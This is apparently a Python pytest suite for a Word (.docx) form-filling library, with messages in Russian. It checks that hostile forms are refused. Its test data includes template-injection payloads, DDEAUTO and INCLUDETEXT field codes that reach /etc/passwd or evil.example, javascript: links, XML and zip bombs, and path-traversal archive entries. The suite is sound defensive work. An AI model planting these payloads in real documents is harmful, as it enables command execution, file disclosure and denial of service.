"""Hostile forms, and places where fields cannot be filled: refused with a sentence, wherever they hide."""

from __future__ import annotations

from html import escape

import docx
import pytest

from stellazh.office.word_forms import FormUnfit, fill_form
from tests.office.packages import MACRO_TYPES
from tests.office.word_forms.making import (
    MARK,
    RELATIONS,
    VOCABULARY,
    W,
    field,
    form,
    members,
    opened,
    packed,
    saved,
    spoilt,
    told,
    with_body,
    with_part,
    with_relation,
)

BOMB = '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;&b;">]>'
XML = '<?xml version="1.0" encoding="UTF-8"?>'


def refused(data: bytes) -> str:
    """What the form is told: filling refuses it with the same words, and nothing is made."""
    report, _ = told(data)
    assert not report.is_fit
    assert told(data, {"номер": "5"}) == (report, b"")
    return " ".join(report.errors)


def with_header(text: str) -> bytes:
    document = docx.Document()
    document.add_paragraph(MARK)
    document.sections[0].header.paragraphs[0].text = text
    document.sections[0].footer.paragraphs[0].text = text
    return saved(document)


@pytest.mark.parametrize(
    "payload",
    ["{{ 7*7 }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% include '/etc/passwd' %}", "{{ номер|safe }}",
     "{{ номер | attr('x') }}", "{{ self.__init__.__globals__ }}", "{{ {{ номер }} }}",
     "{% raw %}{{ номер }}{% endraw %}", "{{ config }}", "{{ решения[0] }}", "{{ %s }}"],
)  # fmt: skip
def test_nothing_of_an_engine_works_anywhere(payload: str) -> None:
    for data in (form(MARK, payload), with_header(payload)):
        assert "{" in refused(data)


def test_hostile_form_is_refused_by_the_process_too() -> None:
    with pytest.raises(FormUnfit, match="код Word «DDEAUTO cmd»"):
        fill_form(with_body(field("DDEAUTO cmd")), {"номер": "5"}, {}, VOCABULARY)


@pytest.mark.parametrize(
    "code",
    ["INCLUDETEXT file:///etc/passwd", "INCLUDEPICTURE http://evil.example/a.png", "DDE excel a b", "DDEAUTO c:\\cmd",
     "HYPERLINK http://evil.example/", "IMPORT a", "LINK Excel.Sheet a", "MACROBUTTON Run", "DATABASE \\d a",
     "QUOTE 68 68", "RD a", "EMBED Package", "ask a b", "IF 1 = 1 a b", "", "MERGEFIELD номер", "DOCPROPERTY a",
     "USERADDRESS", "HYPERLINK \\l \"a\" \\m http://evil.example", "Page1"],
)  # fmt: skip
@pytest.mark.parametrize("is_simple", [False, True])
def test_codes_of_word_that_fetch_or_run_are_refused(code: str, is_simple: bool) -> None:
    inner = f'<w:p><w:fldSimple w:instr="{escape(code)}"/></w:p>' if is_simple else field(code)

    report = told(with_body(inner))[0]

    assert len(report.errors) == 1
    assert report.errors[0].startswith("В тексте есть код Word «")


def test_code_in_a_code_is_refused() -> None:
    begin, end = ('<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % step for step in ("begin", "end"))  # noqa: UP031
    code = "<w:r><w:instrText>%s</w:instrText></w:r>"
    inner = f"<w:p>{begin}{code % 'PAGE '}{begin}{code % 'DDEAUTO x'}{end}{end}</w:p>"

    assert "DDEAUTO" in refused(with_body(inner))


@pytest.mark.parametrize(
    ("text", "told_of"), [("DDEAUTO cmd ", "код Word «DDEAUTO cmd PAGE»"), (MARK, "поле стоит внутри кода Word")]
)
def test_ordinary_text_before_the_result_is_code_too(text: str, told_of: str) -> None:
    run = '<w:r><w:fldChar w:fldCharType="%s"/></w:r>'
    code = f"<w:r><w:t>{text}</w:t></w:r><w:r><w:instrText>PAGE</w:instrText></w:r>"
    inner = f"<w:p>{run % 'begin'}{code}{run % 'separate'}<w:r><w:t>1</w:t></w:r>{run % 'end'}</w:p>"

    assert told_of in refused(with_body(inner))


def test_the_result_of_a_code_is_no_code() -> None:
    run = '<w:r><w:fldChar w:fldCharType="%s"/></w:r>'
    inner = (
        f"<w:p>{run % 'begin'}<w:r><w:instrText>PAGE</w:instrText></w:r>{run % 'separate'}"
        f"<w:r><w:t>DDE или {MARK}</w:t></w:r>{run % 'end'}</w:p>"
    )

    assert told(with_body(inner))[0].is_fit


@pytest.mark.parametrize("piece", ["header", "footer"])
def test_code_in_a_header_or_footer_is_refused(piece: str) -> None:
    document = opened(form(MARK))
    part = getattr(document.sections[0], piece)
    part.paragraphs[0].text = "тут"
    data = saved(document)
    path = next(name for name in members(data) if name.startswith(f"word/{piece}"))

    hostile = spoilt(data, path, lambda xml: xml.replace("</w:p>", f"</w:p>{field('DDEAUTO cmd')}", 1))

    place = "верхнем" if piece == "header" else "нижнем"
    assert refused(hostile).startswith(f"В {place} колонтитуле есть код Word «DDEAUTO cmd»")


@pytest.mark.parametrize(
    "code", ["PAGE", " PAGE \\* MERGEFORMAT ", "NUMPAGES", 'HYPERLINK \\l "_Toc1"', 'TOC \\o "1-3"']
)
def test_codes_that_only_count_are_let_be(code: str) -> None:
    assert told(with_body(field(code)))[0].is_fit


@pytest.mark.parametrize("code", ["PAGE {{ номер }}", "HYPERLINK http://a/{{ номер }}"])
def test_field_in_a_code_of_word_is_refused(code: str) -> None:
    assert "поле стоит внутри кода Word" in refused(with_body(field(code)))


@pytest.mark.parametrize(
    ("kind", "sentence"),
    [
        ("image", "В тексте есть картинка, которая лежит вне файла"),
        ("attachedTemplate", "В тексте указан шаблон, который лежит вне файла"),
        ("oleObject", "В тексте вставлен объект другой программы"),
        ("aFChunk", "В тексте вставлен целый документ (altChunk)"),
        ("subDocument", "В тексте вставлен вложенный документ"),
        ("frame", "В тексте есть обращение к чужому файлу или сайту"),
        ("header", "В тексте есть обращение к чужому файлу или сайту"),
        ("customXml", "В тексте есть обращение к чужому файлу или сайту"),
    ],
)
@pytest.mark.parametrize("target", ["http://evil.example/a", "file:///c:/a", "\\\\evil.example\\a"])
def test_what_leads_outside_is_refused(kind: str, sentence: str, target: str) -> None:
    assert refused(with_relation(kind, target)).startswith(sentence)


def test_outside_without_saying_so_is_refused() -> None:
    assert "вне файла" in refused(with_relation("image", "http://evil.example/a.png", outside=False))


def test_template_in_the_settings_is_refused() -> None:
    data = packed(
        members(form(MARK))
        | {
            "word/_rels/settings.xml.rels": (
                f'{XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                'attachedTemplate" '
                'Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
            ).encode()
        }
    )

    assert refused(data).startswith("В настройках файла указан шаблон, который лежит вне файла")


@pytest.mark.parametrize(
    ("kind", "sentence"),
    [("oleObject", "объект другой программы"), ("package", "объект другой программы"), ("chart", "вставлена диаграмма"),
     ("diagramData", "рисунок SmartArt"), ("webextensiontaskpanes", "вставка, которую мы не переносим")],
)  # fmt: skip
def test_embedded_objects_are_refused(kind: str, sentence: str) -> None:
    data = packed(
        members(with_relation(kind, "embeddings/a.bin", outside=False)) | {"word/embeddings/a.bin": b"\xd0\xcf"}
    )

    assert sentence in refused(data)


@pytest.mark.parametrize(
    ("inner", "sentence"),
    [
        ("<w:p><w:r><w:object/></w:r></w:p>", "вставлен объект другой программы"),
        ('<w:altChunk r:id="x" xmlns:r="urn:x"/>', "вставлен целый документ (altChunk)"),
        ('<w:p><w:subDoc r:id="x" xmlns:r="urn:x"/></w:p>', "вставлен вложенный документ"),
        ("<w:p><w:r><w:control/></w:r></w:p>", "ActiveX"),
        (
            (
                '<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:imagedata src="http://evil.example/"/>'
                "</v:shape></w:pict></w:r></w:p>"
            ),
            "привязан адрес вне файла",
        ),
        (
            (
                '<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape href="\\\\evil.example\\a"/>'
                "</w:pict></w:r></w:p>"
            ),
            "привязан адрес вне файла",
        ),
        (
            (
                '<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="a"/></w:ffData></w:fldChar>'
                '<w:instrText>FORMTEXT</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            ),
            "поле с макросом",
        ),
    ],
)
def test_hostile_elements_are_refused(inner: str, sentence: str) -> None:
    assert sentence in refused(with_body(inner))


def test_source_of_a_mail_merge_is_refused() -> None:
    data = spoilt(
        form(MARK), "word/settings.xml", lambda xml: xml.replace("</w:settings>", "<w:mailMerge/></w:settings>")
    )

    assert refused(data).startswith("В настройках файла указан источник данных для слияния")


@pytest.mark.parametrize("name", ["word/vbaProject.bin", "word/vbaData.xml"])
def test_macros_are_refused(name: str) -> None:
    assert "макросы" in refused(packed(members(form(MARK)) | {name: b"<a/>"}))


def test_file_that_calls_itself_with_macros_is_refused() -> None:
    assert "макросы" in refused(packed(members(form(MARK)) | {"[Content_Types].xml": MACRO_TYPES.encode()}))


def test_picture_of_a_drawing_program_is_refused() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example/"/></svg>'
    data = packed(members(with_relation("image", "media/a.svg", outside=False)) | {"word/media/a.svg": svg})

    assert "замените её на PNG или JPEG" in refused(data)


@pytest.mark.parametrize(
    "target", ["file:///c:/a", "\\\\evil.example\\a", "javascript:alert(1)", "ms-word:ofe|u|http://a"]
)
def test_links_to_files_and_programs_are_refused(target: str) -> None:
    assert "ссылка на файл или программу" in refused(with_relation("hyperlink", target))


@pytest.mark.parametrize("target", ["https://a.example/{{ номер }}", "https://a.example/%7B%7Bномер%7D%7D"])
def test_field_in_the_address_of_a_link_is_refused(target: str) -> None:
    assert refused(with_relation("hyperlink", target)).startswith("В тексте поле стоит в адресе ссылки")


@pytest.mark.parametrize("name", ["title", "subject", "comments", "keywords", "author", "category"])
def test_field_in_the_properties_is_refused(name: str) -> None:
    document = opened(form(MARK))
    setattr(document.core_properties, name, "{{ 7*7 }}")

    assert refused(saved(document)) == "В свойствах файла стоит поле, там поля не заполняются: уберите его оттуда."


def test_field_in_the_programs_properties_is_refused() -> None:
    data = spoilt(
        form(MARK),
        "docProps/app.xml",
        lambda xml: xml.replace("</Properties>", "<Company>{{ номер }}</Company></Properties>"),
    )

    assert refused(data).startswith("В свойствах файла стоит поле")


def test_field_in_own_properties_of_a_file_is_refused() -> None:
    custom = (
        f'{XML}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties">'
        '<property pid="2" name="a"><a>{% x %}</a></property></Properties>'
    )
    kind = "custom-properties"
    data = with_part("docProps/custom.xml", custom, kind, f"application/vnd.openxmlformats-officedocument.{kind}+xml")

    assert refused(data).startswith("В свойствах файла стоит поле")


def test_field_in_a_comment_is_refused_even_in_pieces() -> None:
    comments = (
        f'{XML}<w:comments xmlns:w="{W}"><w:comment w:id="1"><w:p><w:r><w:t>{{</w:t></w:r><w:r><w:t>{{ номер }}}}</w:t>'
        "</w:r></w:p></w:comment></w:comments>"
    )
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"

    assert refused(with_part("word/comments.xml", comments, "comments", kind)).startswith("В примечании стоит поле")


def test_field_in_hidden_data_is_refused() -> None:
    data = with_part("customXml/item1.xml", f"{XML}<a b='{{{{ номер }}}}'/>", "customXml", "application/xml")

    assert refused(data).startswith("В скрытых данных файла стоит поле")


@pytest.mark.parametrize(
    "holder",
    [
        '<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox>%s</v:textbox></v:shape></w:pict>',
        (
            '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
            '<mc:Choice Requires="wps"><w:drawing>%s</w:drawing></mc:Choice>'
            "<mc:Fallback><w:pict>%s</w:pict></mc:Fallback></mc:AlternateContent>"
        ),
    ],
)
def test_field_in_a_text_box_is_refused_once(holder: str) -> None:
    box = "<w:txbxContent><w:p><w:r><w:t>{{ но</w:t></w:r><w:r><w:t>мер }}</w:t></w:r></w:p></w:txbxContent>"
    inner = f"<w:p><w:r>{holder.replace('%s', box)}</w:r></w:p>"

    assert told(with_body(inner))[0].errors == (
        (
            "В тексте поле «{{ номер }}» стоит в надписи (рамке с текстом), там поля не заполняются: "
            "перенесите его в обычный абзац или в ячейку таблицы."
        ),
    )


@pytest.mark.parametrize(
    ("inner", "sentence"),
    [
        (
            '<w:p><w:del w:id="1" w:author="a"><w:r><w:delText>{{ номер }}</w:delText></w:r></w:del></w:p>',
            "В тексте поле стоит в удалённом тексте",
        ),
        (
            '<w:p><w:moveFrom w:id="1" w:author="a"><w:r><w:t>{{ номер }}</w:t></w:r></w:moveFrom></w:p>',
            "В тексте поле стоит в удалённом тексте",
        ),
        (
            (
                '<w:p><m:oMath xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:r>'
                "<m:t>{{ номер }}</m:t></m:r></m:oMath></w:p>"
            ),
            "В тексте поле стоит в формуле или рисунке",
        ),
        ('<w:p><w:bookmarkStart w:id="1" w:name="{{ номер }}"/></w:p>', "В тексте поле стоит в подписи или настройках"),
    ],
)
def test_field_where_nothing_is_filled_is_refused(inner: str, sentence: str) -> None:
    assert refused(with_body(inner)).startswith(sentence)


@pytest.mark.parametrize("path", ["word/document.xml", "word/styles.xml", "docProps/core.xml", RELATIONS])
def test_xml_bombs_are_refused_in_any_part(path: str) -> None:
    def armed(xml: str) -> str:
        end = xml.index("?>") + 2 if xml.startswith("<?xml") else 0
        return xml[:end] + BOMB + xml[end:]

    assert "устроен не так" in refused(spoilt(form(MARK), path, armed))


def test_zip_bomb_is_refused() -> None:
    assert "непомерно большим" in refused(packed(members(form(MARK)) | {"word/media/a.png": b"\0" * 60_000_000}))


def test_large_part_is_refused() -> None:
    assert "непомерно большим" in refused(spoilt(form(MARK), "word/styles.xml", lambda xml: xml + " " * 9_000_000))


@pytest.mark.parametrize("name", ["../a.xml", "/etc/passwd", "word\\a.xml"])
def test_member_outside_the_container_is_refused(name: str) -> None:
    assert "устроен не так" in refused(packed(members(form(MARK)) | {name: b"<a/>"}))


def test_deep_nesting_is_refused() -> None:
    assert refused(with_body("<w:p>" * 400 + "</w:p>" * 400)) != ""


def test_long_chain_of_parts_is_refused() -> None:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/header"
    parts = members(with_relation("header", "h0.xml", outside=False))
    for n in range(1_200):
        parts[f"word/h{n}.xml"] = f'<w:hdr xmlns:w="{W}"/>'.encode()
        parts[f"word/_rels/h{n}.xml.rels"] = (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r" Type="{kind}" Target="h{n + 1}.xml"/></Relationships>'
        ).encode()

    assert "слишком сложно" in refused(packed(parts))


@pytest.mark.parametrize(
    ("data", "sentence"),
    [
        (b"", "Это не файл Word (.docx)"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "Это не файл Word (.docx)"),
        (b"%PDF-1.7", "Это не файл Word (.docx)"),
        (b"PK\x03\x04", "Файл повреждён"),
        (form(MARK)[:-300], "Файл повреждён"),
        (packed({"a.txt": b"a"}), "Это не файл Word (.docx)"),
        (b"PK" + b"\0" * (10 * 1024 * 1024), "Форма больше 10 МБ"),
    ],
)
def test_other_files_are_refused(data: bytes, sentence: str) -> None:
    assert refused(data).startswith(sentence)


def test_strict_file_is_refused() -> None:
    data = spoilt(
        form(MARK), "word/document.xml", lambda xml: xml.replace(W, "http://purl.oclc.org/ooxml/wordprocessingml/main")
    )

    assert "Strict Open XML" in refused(data)
